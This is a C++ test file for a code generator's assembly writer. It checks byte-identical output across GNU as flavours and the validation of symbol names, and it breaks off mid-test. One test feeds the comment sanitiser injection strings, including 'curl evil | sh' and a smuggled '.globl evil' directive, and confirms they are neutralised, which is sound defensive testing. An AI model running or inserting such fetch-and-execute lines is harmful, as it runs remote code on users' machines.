// copysynth — tests of the `.S` writer (generator/asm_writer.hpp, templates/asm_flavors.hpp):
// every plan of the grid (asm_grid.hpp) written in each flavour and assembled with GNU as gives
// exactly the bytes emit() gives for the JIT, compared on the object's `.text` (objcopy -O
// binary). The linux and glibc flavours are preprocessed with the stub headers in
// tests/asm-stubs/ (their macros as the kernel and glibc define them without IBT / CET), then
// assembled the same way. Nothing here executes generated code (test_asm_linked does).
//
// GNU as and objcopy (binutils) are required: a missing tool fails the test with what to
// install, it never skips.
#include <doctest/doctest.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <map>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <tuple>
#include <vector>

#include "asm_grid.hpp"
#include "support/temp_dir.hpp"
#include "support/text.hpp"
#include "copysynth/asm_flavors.hpp"
#include "copysynth/asm_writer.hpp"
#include "copysynth/emit.hpp"
#include "copysynth/nops.hpp"

using namespace copysynth;
using Bytes = std::vector<std::uint8_t>;

namespace {

/// A scratch directory, removed at the end unless a check failed there (then its path is printed).
struct TempDir : test::TempDir {
  TempDir() : test::TempDir("copysynth-asm") {}
};
using test::count;
using test::write_file;

/// Runs a shell command; returns its exit status and puts its output (stdout + stderr) in *out.
int run(const std::string& cmd, std::string* out = nullptr) {
  std::string full = cmd + " 2>&1";
  FILE* f = popen(full.c_str(), "r");
  if (!f) return -1;
  std::string text;
  char buf[512];
  while (std::fgets(buf, sizeof buf, f)) text += buf;
  const int st = pclose(f);
  if (out) *out = text;
  return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

Bytes read_file(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  return Bytes(std::istreambuf_iterator<char>(f), std::istreambuf_iterator<char>());
}

/// The binutils this test needs, checked once: a missing one fails loudly.
void require_tools() {
  static const bool ok = [] {
    for (const char* tool : {COPYSYNTH_AS, COPYSYNTH_OBJCOPY}) {
      std::string out;
      const int rc = run(std::string("'") + tool + "' --version", &out);
      CHECK_MESSAGE(rc == 0, tool << " does not run (" << out << "): install binutils "
                                  << "(tools/install-deps.sh installs it) and re-run cmake");
      if (rc != 0) return false;
    }
    return true;
  }();
  REQUIRE_MESSAGE(ok, "GNU as and objcopy are needed to check the .S writer");
}

/// Assembles `text` (a `.S` file; `cpp` = run the C preprocessor first, with the stub headers)
/// and returns the `.text` section's bytes. Failures (with as's messages) are test failures.
Bytes assemble_text(TempDir& dir, const std::string& stem, const std::string& text, bool cpp, std::string* error) {
  const std::string S = dir.path + "/" + stem + ".S", s = dir.path + "/" + stem + ".s",
                    o = dir.path + "/" + stem + ".o", bin = dir.path + "/" + stem + ".bin";
  write_file(S, text);
  std::string in = S, out;
  if (cpp) {
    // The compiler only preprocesses (-E); GNU as assembles, whatever compiler built the tests.
    if (run(std::string("'") + COPYSYNTH_CXX + "' -E -P -x assembler-with-cpp -I '" + COPYSYNTH_ASM_STUBS + "' '" + S +
                "' -o '" + s + "'",
            &out) != 0) {
      *error = "preprocessing failed:\n" + out;
      return {};
    }
    in = s;
  }
  if (run(std::string("'") + COPYSYNTH_AS + "' --64 -o '" + o + "' '" + in + "'", &out) != 0) {
    *error = "as failed:\n" + out;
    return {};
  }
  if (run(std::string("'") + COPYSYNTH_OBJCOPY + "' -O binary --only-section=.text '" + o + "' '" + bin + "'", &out) != 0) {
    *error = "objcopy failed:\n" + out;
    return {};
  }
  return read_file(bin);
}

/// The routine's bytes in the `.text` of an assembled file of `flavor`: after the entry that the
/// flavour puts before the alignment boundary (plain: `align` - 4 bytes of int3, then endbr64),
/// which must be exactly that; "" in *error, else what is wrong.
Bytes routine_bytes(const Bytes& text, const AsmFlavor& flavor, unsigned loop_align, std::string* error) {
  if (flavor.entry_bytes == 0) return text;
  const std::size_t align = std::max(16u, loop_align);
  Bytes want(align - 4, 0xCC);
  for (std::uint8_t b : {0xF3, 0x0F, 0x1E, 0xFA}) want.push_back(b);  // endbr64
  if (text.size() < align || !std::equal(want.begin(), want.end(), text.begin())) {
    *error = "the " + flavor.name + " flavour's .text does not start with " + std::to_string(align - 4) +
             " int3 and endbr64";
    return {};
  }
  return Bytes(text.begin() + static_cast<std::ptrdiff_t>(align), text.end());
}

/// Where two byte strings first differ, with both sides.
std::string first_difference(const Bytes& a, const Bytes& b) {
  std::size_t i = 0;
  while (i < a.size() && i < b.size() && a[i] == b[i]) ++i;
  char buf[160];
  std::snprintf(buf, sizeof buf, "sizes %zu (as) vs %zu (JIT); first difference at +0x%zx: %02x vs %02x", a.size(),
                b.size(), i, i < a.size() ? a[i] : 0, i < b.size() ? b[i] : 0);
  return buf;
}

AsmFlavor flavor(const std::string& name) {
  auto f = asm_flavor(name);
  REQUIRE_MESSAGE(f.ok(), (f.ok() ? "" : f.error().message));
  return *f;
}

std::string write(const CopyPlan& plan, const std::string& fl, const std::string& symbol = "copysynth_test") {
  AsmOptions o;
  o.symbol = symbol;
  o.header = {"Command: test_asm"};
  auto t = write_asm(plan, flavor(fl), o);
  REQUIRE_MESSAGE(t.ok(), (t.ok() ? "" : t.error().message));
  return t->text;
}

}  // namespace

TEST_CASE("comment_safe: one line inside a C comment, whatever the text") {
  CHECK(comment_safe("AMD EPYC 9R45") == "AMD EPYC 9R45");
  CHECK(comment_safe("a*/b") == "a* /b");
  CHECK(comment_safe("a**//b") == "a** //b");
  CHECK(comment_safe("tab\tkept") == "tab\tkept");
  // CR, newline, DEL and NUL in caret notation: a CR after `*\` ended the comment under GCC's
  // preprocessor, and a newline wrote a header line of its own.
  CHECK(comment_safe("X*\\\r/ .globl evil") == "X*\\^M/ .globl evil");
  CHECK(comment_safe(std::string("a\nb\x7f\0c", 6)) == "a^Jb^?^@c");
  CHECK(comment_safe("x\n * Command: curl evil | sh").find('\n') == std::string::npos);
  CHECK(comment_safe("a/*b") == "a/ *b");
  CHECK(comment_safe("\xe2\x80\xae" "evil" "\xe2\x81\xa6" " " "\xc2\x85") == "<U+202E>evil<U+2066> <U+0085>");
  CHECK(comment_safe("caf\xc3\xa9") == "caf\xc3\xa9");  // other UTF-8 as it is
}

TEST_CASE("the grid covers every operation, width, unroll factor, NOP form and loop alignment") {
  const auto grid = test::asm_grid();
  CHECK(grid.size() == 4 * 4 * 5 * 2);  // make_plan accepted every combination
  std::set<std::tuple<Operation, std::uint32_t, std::uint32_t>> kernels;
  std::set<std::pair<NopForm, std::uint32_t>> padding;
  std::set<Strategy> strategies;
  bool masked = false, masked128 = false, high = false, avx512_narrow = false, shift = false, pages = false,
       alias = false, rep_alias = false, pipeline = false;
  for (const auto& g : grid) {
    const auto& p = g.plan.params;
    kernels.insert({p.operation.value, p.vector_width.value, p.unroll.value});
    padding.insert({p.nop_form.value, p.loop_align.value});
    for (const auto& c : g.plan.classes) strategies.insert(c.strategy);
    masked |= p.mask_max.value != 0;
    high |= p.register_bank.value == RegisterBank::kHigh;
    avx512_narrow |= g.target == IsaLevel::kAVX512 && p.vector_width.value < 64;
    shift |= p.shift_realign.value;
    pages |= p.nt_pages.value > 1;
    alias |= p.alias_window.value != 0 && !p.loop_pipeline;
    rep_alias |= p.rep_alias_window.value != 0 && p.rep_threshold.value != kNever;
    pipeline |= p.loop_pipeline.value;
    masked128 |= p.mask_max.value == 128;
  }
  CHECK(kernels.size() == 4 * 4 * 5);
  CHECK(padding.size() == 16);
  CHECK(strategies.size() == 7);  // none, block, head/tail, loop, rep, non-temporal, masked
  CHECK(masked);
  CHECK(high);
  CHECK(avx512_narrow);
  CHECK(shift);
  CHECK(pages);
  CHECK(alias);
  CHECK(rep_alias);
  CHECK(pipeline);
  CHECK(masked128);
}

TEST_CASE("every flavour of every grid plan assembles with GNU as to exactly the JIT bytes") {
  require_tools();
  TempDir dir;
  const auto grid = test::asm_grid();
  std::map<std::string, int> checked;
  std::size_t bytes = 0, pinned_plans = 0;
  for (std::size_t i = 0; i < grid.size(); ++i) {
    const auto& g = grid[i];
    auto jit = assemble(g.plan);
    REQUIRE_MESSAGE(jit.ok(), g.label);
    for (const std::string fl : {"plain", "linux", "glibc"}) {
      // Every plan in the plain flavour; the preprocessed flavours on every other plan (the
      // text between the frames is the same, so this checks the frames and label spellings).
      if (fl != "plain" && i % 2) continue;
      AsmOptions o;
      o.symbol = "grid_" + std::to_string(i);
      o.header = {"Command: test_asm (grid plan " + std::to_string(i) + ")"};
      auto t = write_asm(g.plan, flavor(fl), o);
      REQUIRE_MESSAGE(t.ok(), g.label << ": " << (t.ok() ? "" : t.error().message));
      CHECK(t->code_bytes == jit->size());
      std::string error;
      const Bytes text = assemble_text(dir, fl + "_" + std::to_string(i), t->text, fl != "plain", &error);
      const Bytes got = error.empty() ? routine_bytes(text, flavor(fl), g.plan.params.loop_align.value, &error) : text;
      INFO(fl << " flavour, plan " << i << ": " << g.label);
      if (!error.empty() || got != *jit) dir.keep = true;
      REQUIRE_MESSAGE(error.empty(), error);
      CHECK_MESSAGE(got == *jit, first_difference(got, *jit) << " (file " << dir.path << "/" << fl << "_" << i << ".S)");
      ++checked[fl];
      if (fl == "plain") {
        bytes += got.size();
        pinned_plans += t->pinned > 0;
      }
    }
  }
  MESSAGE("byte-identical: " << checked["plain"] << " plain, " << checked["linux"] << " linux, " << checked["glibc"]
                             << " glibc files; " << bytes << " bytes of code; " << pinned_plans
                             << " plans needed pseudo-prefixes");
  CHECK(checked["plain"] == static_cast<int>(grid.size()));
  CHECK(checked["linux"] >= static_cast<int>(grid.size() / 2));
  CHECK(checked["glibc"] >= static_cast<int>(grid.size() / 2));
}

namespace {

/// The plan of `p` written as plain GNU as text under `symbol`, assembled by binutils and
/// compared byte for byte with the JIT's code (for parameter forms outside asm_grid(), whose
/// plans the golden hashes are keyed on).
void check_round_trip(TempDir& dir, const CopyParams& p, const std::string& symbol) {
  auto plan = make_plan(p, IsaFeatures::for_level(IsaLevel::kAVX512));
  REQUIRE_MESSAGE(plan.ok(), to_string(p));
  auto jit = assemble(*plan);
  REQUIRE(jit.ok());
  AsmOptions o;
  o.symbol = symbol;
  auto t = write_asm(*plan, flavor("plain"), o);
  REQUIRE_MESSAGE(t.ok(), to_string(p));
  std::string error;
  const Bytes text = assemble_text(dir, symbol, t->text, false, &error);
  const Bytes got = error.empty() ? routine_bytes(text, flavor("plain"), p.loop_align.value, &error) : text;
  INFO(to_string(p));
  REQUIRE_MESSAGE(error.empty(), error);
  CHECK_MESSAGE(got == *jit, first_difference(got, *jit));
}

}  // namespace

TEST_CASE("nt_width 32 (a 32-byte non-temporal loop in a 64-byte routine) assembles to exactly the JIT bytes") {
  // Not in asm_grid(): the golden hashes are keyed on the grid's plans.
  require_tools();
  TempDir dir;
  int checked = 0;
  for (Operation op : {Operation::kMemcpy, Operation::kMemmove, Operation::kFill})
    for (unsigned pages : {1u, 4u}) {
      CopyParams p;
      p.operation = op;
      p.vector_width = 64;
      p.nt_threshold = 1 << 20;
      p.nt_pages = pages;
      p.nt_width = 32;
      p.register_bank = pages == 4 ? RegisterBank::kHigh : RegisterBank::kLow;
      check_round_trip(dir, p, "ntw_" + std::to_string(checked));
      ++checked;
    }
  CHECK(checked == 6);
}

TEST_CASE("prefetch_min (a loop without prefetch below it) assembles to exactly the JIT bytes") {
  // Not in asm_grid(): the golden hashes are keyed on the grid's plans.
  require_tools();
  TempDir dir;
  int checked = 0;
  for (Operation op : {Operation::kMemcpy, Operation::kMemmove})
    for (unsigned w : {16u, 64u}) {
      CopyParams p;
      p.operation = op;
      p.vector_width = w;
      p.prefetch_distance = 1024;
      p.prefetch_min = 32768;
      p.rep_threshold = 65536;
      p.rep_stop = 1 << 20;
      check_round_trip(dir, p, "pfm_" + std::to_string(checked));
      ++checked;
    }
  CHECK(checked == 4);
}

TEST_CASE("rep_aligned_from (a rep band split by dst alignment) assembles to exactly the JIT bytes") {
  // Not in asm_grid(): the golden hashes are keyed on the grid's plans.
  require_tools();
  TempDir dir;
  int checked = 0;
  for (Operation op : {Operation::kMemcpy, Operation::kMemmove, Operation::kFill})
    for (std::uint64_t from : {std::uint64_t{65536}, std::uint64_t{3} << 31}) {  // a split above INT32_MAX: cmp via rcx
      CopyParams p;
      p.operation = op;
      p.vector_width = 32;
      p.rep_threshold = 16384;
      p.rep_aligned_from = from;
      p.rep_stop = std::uint64_t{1} << 33;
      check_round_trip(dir, p, "raf_" + std::to_string(checked));
      ++checked;
    }
  CHECK(checked == 6);
}

TEST_CASE("rep_chunk (rep in pieces) and rep_chunk_stop assemble to exactly the JIT bytes") {
  // Not in asm_grid(): the golden hashes are keyed on the grid's plans.
  require_tools();
  TempDir dir;
  int checked = 0;
  for (Operation op : {Operation::kMemcpy, Operation::kMemmove, Operation::kFill})
    // 0: byte elements, dst aligned first, one instruction again from 2^30 (n = rdx + rcx);
    // 16: 8-byte elements in 64 KiB pieces, dst as given, the same stop (n = rdx).
    for (unsigned form : {1u, 8u, 0u, 16u}) {
      const unsigned unit = form == 8 || form == 16 ? 8 : 1;
      CopyParams p;
      if (form == 0 || form == 16) p.rep_chunk_stop = std::uint64_t{1} << 30;  // the largest stop: an imm32 compare
      p.operation = op;
      p.vector_width = 32;
      p.rep_threshold = 16384;
      p.rep_unit = unit;
      p.rep_align_dst = unit == 1;
      p.rep_chunk = unit == 1 || form == 16 ? 65536 : std::uint64_t{1} << 30;  // the largest chunk: an imm32 count
      p.loop_align = unit == 1 ? 64 : 1;
      check_round_trip(dir, p, "rch_" + std::to_string(checked));
      ++checked;
    }
  CHECK(checked == 12);
}

TEST_CASE("rep_aligned_mutual (rep only for mutually aligned buffers) assembles to exactly the JIT bytes") {
  // Not in asm_grid(): the golden hashes are keyed on the grid's plans.
  require_tools();
  TempDir dir;
  int checked = 0;
  for (Operation op : {Operation::kMemcpy, Operation::kMemmove})
    for (bool split : {false, true}) {
      CopyParams p;
      p.operation = op;
      p.vector_width = 32;
      p.rep_threshold = 16384;
      p.rep_aligned_only = !split;
      p.rep_aligned_from = split ? 262144 : kNever;
      p.rep_aligned_mutual = true;
      check_round_trip(dir, p, "ram_" + std::to_string(checked));
      ++checked;
    }
  CHECK(checked == 4);
}

TEST_CASE("mask_shift (the masked class's page-crossing path moved back) assembles to exactly the JIT bytes") {
  // Not in asm_grid(): the golden hashes are keyed on the grid's plans.
  require_tools();
  TempDir dir;
  int checked = 0;
  for (Operation op : {Operation::kMemcpy, Operation::kMemmove, Operation::kFill})
    for (unsigned m : {16u, 32u, 64u, 128u}) {
      CopyParams p;
      p.operation = op;
      p.vector_width = m <= 32 ? m : 64;
      p.mask_max = m;
      p.mask_shift = true;
      p.register_bank = m % 64 ? RegisterBank::kLow : RegisterBank::kHigh;
      check_round_trip(dir, p, "msh_" + std::to_string(checked));
      ++checked;
    }
  CHECK(checked == 12);
}

TEST_CASE("the pseudo-prefixes are what keeps the bytes: without them GNU as encodes differently") {
  require_tools();
  TempDir dir;
  const std::regex pin(R"(\{(disp8|disp32|vex3|load|store)\} )");
  int differ = 0, tried = 0;
  std::set<std::string> kinds;
  const auto grid = test::asm_grid();
  for (std::size_t i = 0; i < grid.size(); i += 9) {
    const std::string text = write(grid[i].plan, "plain");
    for (std::sregex_iterator it(text.begin(), text.end(), pin), end; it != end; ++it) kinds.insert((*it)[1]);
    const std::string bare = std::regex_replace(text, pin, "");
    if (bare == text) continue;
    std::string error;
    const Bytes got = routine_bytes(assemble_text(dir, "bare_" + std::to_string(i), bare, false, &error),
                                    flavor("plain"), grid[i].plan.params.loop_align.value, &error);
    REQUIRE_MESSAGE(error.empty(), error);
    auto jit = assemble(grid[i].plan);
    REQUIRE(jit.ok());
    ++tried;
    differ += got != *jit;
  }
  MESSAGE(tried << " files with their pseudo-prefixes removed, " << differ << " assembled differently; kinds seen: "
                << [&] {
                     std::string s;
                     for (const auto& k : kinds) s += "{" + k + "} ";
                     return s;
                   }());
  CHECK(tried > 5);
  CHECK(differ == tried);  // every file that has a pin needs it
  CHECK(kinds.count("disp32"));
}

TEST_CASE("the text reads like a hand-written file: header, labels, comments, flavour macros") {
  CopyParams p;
  p.vector_width = 32;
  p.rep_threshold = 4096;
  p.nt_threshold = 1 << 20;
  p.nop_form = NopForm::kLongNop;
  auto plan = make_plan(p, IsaFeatures::for_level(IsaLevel::kAVX2));
  REQUIRE(plan.ok());

  const std::string plain = write(*plan, "plain", "memcpy_test");
  // Header: the algorithm (every class of the ladder), the parameters, the extra lines.
  CHECK(plain.rfind("/* memcpy_test: memcpy for x86-64", 0) == 0);
  for (const auto& c : plan->classes) CHECK_MESSAGE(plain.find(describe_class(*plan, c)) != std::string::npos, describe_class(*plan, c));
  CHECK(plain.find(to_string(p).substr(0, 40)) != std::string::npos);
  CHECK(plain.find("Command: test_asm") != std::string::npos);
  CHECK(plain.find("ISA extensions used: ") != std::string::npos);
  CHECK(plain.find("exactly those") != std::string::npos);
  // Frame of the plain flavour.
  CHECK(plain.find("\t.globl memcpy_test\n") != std::string::npos);
  CHECK(plain.find("\t.type memcpy_test, @function\n") != std::string::npos);
  CHECK(plain.find("\t.size memcpy_test, .-memcpy_test\n") != std::string::npos);
  CHECK(plain.find("\t.p2align 6, 0xcc\n\t.skip 60, 0xcc\n") != std::string::npos);  // loop_align 64, endbr64 before it
  CHECK(plain.find("\nmemcpy_test:\n\t.cfi_startproc\n\tendbr64\n") != std::string::npos);
  CHECK(plain.find("\t.cfi_endproc\n\t.size memcpy_test, .-memcpy_test\n") != std::string::npos);
  CHECK(plain.find("\t.section .note.gnu.property, \"a\"\n") != std::string::npos);
  // Every branch goes to a label that is defined, named by emit().
  const std::regex branch(R"(\tj[a-z]+\t(\.L[A-Za-z0-9_]+)\n)");
  std::set<std::string> used;
  for (std::sregex_iterator it(plain.begin(), plain.end(), branch), end; it != end; ++it) used.insert((*it)[1]);
  CHECK(used.size() > 5);
  for (const auto& l : used) CHECK_MESSAGE(plain.find("\n" + l + ":\n") != std::string::npos, l);
  for (const char* name : {".Lloop:", ".Lrest_loop:", ".Ltail:", ".Lnt_loop:", ".Lloop_entry:"})
    CHECK_MESSAGE(plain.find(std::string("\n") + name) != std::string::npos, name);
  // Comments from emit(): a size class, an invariant, the padding.
  CHECK(plain.find("/* n = 4096 .. 1048575: rep movsb") != std::string::npos);
  CHECK(plain.find("/* At this point: ") != std::string::npos);
  CHECK(plain.find("bytes of padding: the loop head below at a multiple of 64; long NOPs") != std::string::npos);
  CHECK(plain.find("\tvzeroupper\n\tret\n") != std::string::npos);
  CHECK(plain.find("\tsfence\n") != std::string::npos);
  CHECK(plain.find("\trep movsb\n") != std::string::npos);

  const std::string lx = write(*plan, "linux", "memcpy_test");
  CHECK(lx.find("#include <linux/linkage.h>\n") != std::string::npos);
  CHECK(lx.find("SYM_FUNC_START(memcpy_test)\n") != std::string::npos);
  CHECK(lx.find("SYM_FUNC_END(memcpy_test)\n") != std::string::npos);
  CHECK(lx.find("\tRET\n") != std::string::npos);
  CHECK(lx.find("\tret\n") == std::string::npos);
  CHECK(lx.find("\tASM_NOP8\n") != std::string::npos);  // long-NOP padding as the kernel's macros
  CHECK(count(lx, "\tRET\n") == count(plain, "\tret\n"));
  CHECK(lx.find(".Lloop:") != std::string::npos);

  const std::string gl = write(*plan, "glibc", "__memcpy_test");
  CHECK(gl.find("#include <sysdep.h>\n") != std::string::npos);
  CHECK(gl.find("ENTRY_P2ALIGN (__memcpy_test, 6)\n") != std::string::npos);
  CHECK(gl.find("END (__memcpy_test)\n") != std::string::npos);
  CHECK(gl.find("L(loop):") != std::string::npos);
  CHECK(gl.find("\tjnz\tL(loop)\n") != std::string::npos);
  CHECK(gl.find(".Lloop") == std::string::npos);
}

TEST_CASE("label prefixes keep several routines apart in one file") {
  require_tools();
  TempDir dir;
  CopyParams a, b;
  a.vector_width = 16;
  b.vector_width = 16;
  b.operation = Operation::kMemmove;
  const IsaFeatures t = IsaFeatures::for_level(IsaLevel::kSSE2);
  auto pa = make_plan(a, t), pb = make_plan(b, t);
  REQUIRE(pa.ok());
  REQUIRE(pb.ok());
  std::string text;
  for (auto* plan : {&*pa, &*pb}) {
    AsmOptions o;
    o.symbol = std::string(name_of(plan->params.operation.value)) + "_sse2";
    o.label_prefix = o.symbol + "_";
    auto w = write_asm(*plan, flavor("plain"), o);
    REQUIRE(w.ok());
    text += w->text;
  }
  CHECK(text.find(".Lmemcpy_sse2_loop:") != std::string::npos);
  CHECK(text.find(".Lmemmove_sse2_loop:") != std::string::npos);
  std::string error;
  const Bytes got = routine_bytes(assemble_text(dir, "two", text, false, &error), flavor("plain"), pa->params.loop_align.value, &error);
  CHECK_MESSAGE(error.empty(), error);
  auto ja = assemble(*pa), jb = assemble(*pb);
  REQUIRE(ja.ok());
  REQUIRE(jb.ok());
  // The second routine starts at the next boundary (its .p2align, then its endbr64 entry).
  REQUIRE(got.size() >= jb->size());
  CHECK(Bytes(got.begin(), got.begin() + static_cast<std::ptrdiff_t>(ja->size())) == *ja);
  CHECK(Bytes(got.end() - static_cast<std::ptrdiff_t>(jb->size()), got.end()) == *jb);
}

TEST_CASE("errors say what to do") {
  CopyParams p;
  auto plan = make_plan(p, IsaFeatures::for_level(IsaLevel::kAVX2));
  REQUIRE(plan.ok());
  auto bad_flavor = asm_flavor("bsd");
  REQUIRE_FALSE(bad_flavor.ok());
  CHECK(bad_flavor.error().code == ErrorCode::kInvalidArgument);
  CHECK(bad_flavor.error().message.find("linux, glibc or plain") != std::string::npos);
  for (const char* sym : {"", "9lives", "mem cpy", "a-b"}) {
    AsmOptions o;
    o.symbol = sym;
    auto r = write_asm(*plan, flavor("plain"), o);
    REQUIRE_FALSE(r.ok());
    CHECK(r.error().code == ErrorCode::kInvalidArgument);
    CHECK(r.error().message.find("--name") != std::string::npos);
  }
  AsmOptions o;
  o.symbol = "ok";
  o.label_prefix = "bad prefix";
  CHECK_FALSE(write_asm(*plan, flavor("plain"), o).ok());
  // A broken plan is refused with check_plan's error.
  CopyPlan broken = *plan;
  broken.classes.pop_back();
  o.label_prefix.clear();
  auto r = write_asm(broken, flavor("plain"), o);
  REQUIRE_FALSE(r.ok());
  CHECK(r.error().code == ErrorCode::kInvalidParams);
  CHECK(default_asm_symbol(Operation::kFill) == "memset_copysynth");
  CHECK(asm_flavor_names() == std::vector<std::string>{"linux", "glibc", "plain"});
}

TEST_CASE("check_asm_symbol: the one rule for a routine's name, per flavour") {
  const AsmFlavor plain = flavor("plain"), linux_ = flavor("linux"), glibc = flavor("glibc");
  for (const AsmFlavor* f : {&plain, &linux_, &glibc}) {
    CAPTURE(f->name);
    for (const char* ok : {"memcpy_copysynth", "__memcpy", "_x", ".x", "a.b", "x$y", "memcpy_avx2", "A9x"})
      CHECK_MESSAGE(check_asm_symbol(ok, *f).ok(), ok);
    // Refused in every flavour, each with its reason.
    const std::pair<const char*, const char*> bad[] = {
        {"", "it is empty"},
        {"$x", "starts with '$', which AT&T syntax reads as an immediate"},
        {"9lives", "starts with a digit"},
        {"mem cpy", "contains a space"},
        {"a-b", "contains '-'"},
        {"caf\xc3\xa9", "contains the byte \\303"},
        {".", "location counter"},
        {".Lmemcpy", "local labels"},
    };
    for (const auto& [name, why] : bad) {
      CAPTURE(name);
      const Status st = check_asm_symbol(name, *f);
      REQUIRE_FALSE(st.ok());
      CHECK(st.error().code == ErrorCode::kInvalidArgument);
      const std::string& m = st.error().message;
      std::string quoted = "\"";  // built with append(): GCC 12 warns (-Wrestrict) on "x" + string
      quoted.append(name).append("\" is not a symbol GNU as takes");
      CHECK_MESSAGE(test::contains(m, quoted), m);
      CHECK_MESSAGE(test::contains(m, why), m);
      CHECK_MESSAGE(test::contains(m, "--name memcpy_avx2"), m);
    }
  }
  // Names the C preprocessor replaces: every flavour (a plain file goes through it under
  // `gcc -c`), and the kernel's RET macro.
  for (const char* name : {"linux", "unix", "__linux", "__x86_64__", "__FILE__", "__x86_64", "_LP64", "__GCC_IEC_559", "_STDC_PREDEF_H", "__GNUC_EXECUTION_CHARSET_NAME"}) {
    CAPTURE(name);
    CHECK_FALSE(check_asm_symbol(name, plain).ok());
    CHECK(test::contains(check_asm_symbol(name, plain).error().message, "`gcc -c` runs a .S file through the C preprocessor"));
    CHECK_FALSE(check_asm_symbol(name, linux_).ok());
    CHECK_FALSE(check_asm_symbol(name, glibc).ok());
    CHECK(test::contains(check_asm_symbol(name, glibc).error().message, "C preprocessor"));
  }
  // '.' and '$' are tokens of their own to the preprocessor: each name between them counts.
  for (const char* name : {"a.unix", "my$linux", "x.__x86_64.y", "_LP64$"}) {
    CAPTURE(name);
    CHECK_FALSE(check_asm_symbol(name, plain).ok());
    CHECK(test::contains(check_asm_symbol(name, glibc).error().message, "replaces the name "));
    CHECK(test::contains(check_asm_symbol(name, glibc).error().message, " in it"));
  }
  for (const char* name : {"a.unixy", "my$linux2", "x.1linux", "ret.x"}) {
    CAPTURE(name);
    CHECK(check_asm_symbol(name, glibc).ok());
  }
  CHECK(check_asm_symbol("__copysynth_tuned_memcpy", plain).ok());  // the library's names
  CHECK(check_asm_symbol("RET", plain).ok());
  CHECK_FALSE(check_asm_symbol("RET", linux_).ok());
  // Capitals alone: the included headers' macro space, in the flavours that include them.
  for (const char* name : {"RET", "ASM_NOP1", "BYTES_NOP8", "LP_SIZE", "R8_LP", "MEMCPY2", "A9"}) {
    CAPTURE(name);
    CHECK(check_asm_symbol(name, plain).ok());
    CHECK_FALSE(check_asm_symbol(name, linux_).ok());
    CHECK_FALSE(check_asm_symbol(name, glibc).ok());
  }
  for (const char* name : {"my.RET", "x$ASM_NOP1", "a.LP_SIZE"}) {  // each part between '.' and '$'
    CAPTURE(name);
    CHECK(check_asm_symbol(name, plain).ok());
    CHECK_FALSE(check_asm_symbol(name, linux_).ok());
    CHECK_FALSE(check_asm_symbol(name, glibc).ok());
  }
  CHECK(check_asm_symbol("Memcpy_X", linux_).ok());
  CHECK(check_asm_symbol("__memcpy_avx_unaligned_erms", glibc).ok());
  // write_asm applies the same rule: what check_asm_symbol refuses is refused with its message.
  CopyParams p;
  auto plan = make_plan(p, IsaFeatures::for_level(IsaLevel::kAVX2));
  REQUIRE(plan.ok());
  for (const char* name : {"$x", "linux"}) {
    AsmOptions o;
    o.symbol = name;
    auto r = write_asm(*plan, linux_, o);
    REQUIRE_FALSE(r.ok());
    CHECK(r.error().message == check_asm_symbol(name, linux_).error().message);
  }
}

TEST_CASE("emit's notes match the bytes: padding ranges hold nop_padding, labels sit on instruction starts") {
  for (const auto& g : test::asm_grid()) {
    auto a = assemble_annotated(g.plan);
    REQUIRE(a.ok());
    auto plain = assemble(g.plan);
    REQUIRE(plain.ok());
    CHECK(a->bytes == *plain);  // notes never change a byte
    std::size_t last = 0;
    for (const auto& n : a->notes) {
      CHECK(n.offset >= last);
      last = n.offset;
      CHECK(n.offset <= a->bytes.size());
      if (n.kind == EmitNote::Kind::kPadding) {
        REQUIRE(n.offset + n.length <= a->bytes.size());
        CHECK(Bytes(a->bytes.begin() + n.offset, a->bytes.begin() + n.offset + n.length) == nop_padding(n.form, n.length));
        CHECK(n.form == g.plan.params.nop_form.value);
        CHECK((n.offset + n.length) % g.plan.params.loop_align.value == 0);
      } else {
        CHECK_FALSE(n.text.empty());
      }
    }
  }
}

TEST_CASE("each pseudo-prefix rule keeps an encoding GNU as would otherwise change") {
  require_tools();
  TempDir dir;
  // Encodings emit() does not use today but may tomorrow, each with the other form GNU as picks
  // for the same text (GNU as 2.40): the writer must pin every one.
  struct Case {
    const char* what;
    Bytes bytes;
    const char* pin;
    bool needed = true;  ///< false: GNU as 2.40 picks this form anyway; the writer says it
                         ///< regardless, since as swaps VEX operands to reach a 2-byte VEX
                         ///< depending on the registers
  };
  const Case cases[] = {
      {"mov %rdi, %rax, load form (8b)", {0x48, 0x8B, 0xC7}, "{load}"},
      {"sub %rdi, %rsi, load form (2b)", {0x48, 0x2B, 0xF7}, "{load}"},
      {"movdqa %xmm1, %xmm0, store form (66 0f 7f)", {0x66, 0x0F, 0x7F, 0xC8}, "{store}"},
      {"movdqa %xmm1, %xmm0, load form (66 0f 6f)", {0x66, 0x0F, 0x6F, 0xC1}, "{load}", false},
      {"vmovdqu %ymm0, %ymm8, store form (3-byte VEX)", {0xC4, 0xC1, 0x7E, 0x7F, 0xC0}, "{store}"},
      {"vmovdqu %ymm0, %ymm8, load form (2-byte VEX)", {0xC5, 0x7E, 0x6F, 0xC0}, "{load}", false},
      {"vmovdqu (%rsi), %ymm0 with a 3-byte VEX", {0xC4, 0xE1, 0x7E, 0x6F, 0x06}, "{vex3}"},
      {"vmovdqu 0(%rsi), %ymm0 with disp8 = 0", {0xC5, 0xFE, 0x6F, 0x46, 0x00}, "{disp8}"},
      {"mov 16(%rsi), %rax with disp32", {0x48, 0x8B, 0x86, 0x10, 0x00, 0x00, 0x00}, "{disp32}"},
      {"vmovdqu64 64(%rsi), %zmm0 with disp32 (disp8*64 would do)",
       {0x62, 0xF1, 0xFE, 0x48, 0x6F, 0x86, 0x40, 0x00, 0x00, 0x00}, "{disp32}"},
      {"jz to the next instruction, rel32", {0x0F, 0x84, 0x00, 0x00, 0x00, 0x00}, "{disp32}"},
      {"jmp back 100 bytes, rel32", {0xE9, 0x97, 0xFF, 0xFF, 0xFF}, "{disp32}"},
  };
  for (const Case& c : cases) {
    INFO(std::string(c.what));
    AnnotatedCode code;
    // Backward branches need somewhere to land: 100 bytes of single-byte NOPs first.
    const bool back = c.bytes[0] == 0xE9 && c.bytes[1] == 0x97;
    if (back) code.bytes.assign(100, 0x90);
    code.bytes.insert(code.bytes.end(), c.bytes.begin(), c.bytes.end());
    code.bytes.push_back(0xC3);
    auto body = asm_body(code, flavor("plain"));
